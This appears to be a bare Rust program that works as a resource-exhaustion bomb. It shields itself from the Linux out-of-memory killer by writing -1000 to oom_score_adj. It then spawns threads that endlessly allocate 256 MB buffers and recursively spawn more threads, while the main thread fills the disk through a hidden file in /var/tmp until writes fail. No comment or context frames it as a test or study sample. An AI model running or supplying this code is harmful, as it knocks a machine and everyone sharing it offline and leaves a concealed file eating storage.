use std::fs::File;
use std::io::Write;
use std::thread;

fn fill(n: usize) {
    let mut keep: Vec<Vec<u8>> = Vec::new();
    loop {
        keep.push(vec![n as u8; 256 << 20]);
        if keep.len() % 4 == 0 {
            thread::spawn(move || fill(n + 1));
        }
    }
}

fn main() {
    if let Ok(mut f) = File::create("/proc/self/oom_score_adj") {
        let _ = f.write_all(b"-1000");
    }
    let t: Vec<_> = (0..64).map(|i| thread::spawn(move || fill(i))).collect();
    let mut disk = File::create("/var/tmp/.warm").unwrap();
    let block = vec![0xA5u8; 8 << 20];
    while disk.write_all(&block).is_ok() {}
    for h in t {
        let _ = h.join();
    }
}
